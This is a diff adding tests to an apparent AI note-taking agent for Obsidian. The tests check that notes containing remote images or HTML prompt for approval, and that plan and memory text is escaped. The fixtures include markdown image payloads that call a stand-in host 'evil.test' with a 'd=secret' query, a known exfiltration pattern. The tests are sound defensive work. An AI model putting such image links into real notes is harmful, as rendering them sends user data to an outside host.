@@ -1,4 +1,4 @@
-import { existsSync, readFileSync } from 'node:fs'
+import { existsSync, globSync, readFileSync } from 'node:fs'
 import { join } from 'node:path'
 import { afterEach, beforeEach, describe, expect, test } from 'vitest'
 import { type SimulatedApp, simulatedApp } from '../../testing/simulated-app.ts'
@@ -166,6 +166,56 @@ describe('rules for tools', () => {
     await collect(it.app, answerId)
     expect(await rules()).toEqual([])
     expect(existsSync(join(it.root, 'AGENTS.md'))).toBe(false)
+  })
+
+  test('an allowed write asks all the same where the note would load or run something', async () => {
+    await setRules([{ tool: 'write', decision: 'run' }])
+    it.simulator.play(
+      {
+        kind: 'answer',
+        calls: [
+          write('plain.md', 'Code: `a < b`'),
+          write('page.html', '<img src="https://evil.test/p.png">'),
+          write('live.md', 'Look: ![x](https://evil.test/p.png?d=secret)'),
+        ],
+      },
+      { kind: 'answer', text: 'Done.' },
+    )
+    const answerId = await start('Write.')
+    const { callId, question } = await untilAsked(answerId)
+    expect(question?.text).toContain('images, HTML or code that Obsidian or a plugin may load or run')
+    expect(question?.always).toBeUndefined()
+    expect(['plain.md', 'page.html', 'live.md'].map((path) => existsSync(join(it.root, path)))).toEqual([
+      true,
+      true,
+      false,
+    ])
+    await it.app.answerCall({ workspaceId: WORKSPACE, answerId, callId, answer: 'approve' })
+    await collect(it.app, answerId)
+    expect(readFileSync(join(it.root, 'live.md'), 'utf8')).toContain('![x](https://evil.test')
+  })
+
+  test('a plan and a thing to remember are text in the vault', async () => {
+    const live = '![x](https://evil.test/p.png) <img src=x>'
+    const asked = (tool: string, args: object) => ({ tool, arguments: JSON.stringify(args), callId: tool })
+    it.simulator.play(
+      {
+        kind: 'answer',
+        calls: [asked('plan', { title: 'Go', content: live }), asked('memory', { add: live })],
+      },
+      { kind: 'answer', text: 'Done.' },
+    )
+    const answerId = await start('Plan and remember.')
+    for (const tool of ['plan', 'memory']) {
+      await expect.poll(async () => (await untilAsked(answerId)).callId).toBe(tool)
+      await it.app.answerCall({ workspaceId: WORKSPACE, answerId, callId: tool, answer: 'approve' })
+    }
+    await collect(it.app, answerId)
+    const [written = ''] = globSync('Varve/plans/*.md', { cwd: it.root })
+    for (const path of [written, 'Varve/memory.md'])
+      expect(readFileSync(join(it.root, path), 'utf8')).toContain(
+        '\\![x](https://evil.test/p.png) \\<img src=x>',
+      )
   })
 
   test('rules that cannot be read ask for everything, and can be replaced', async () => {
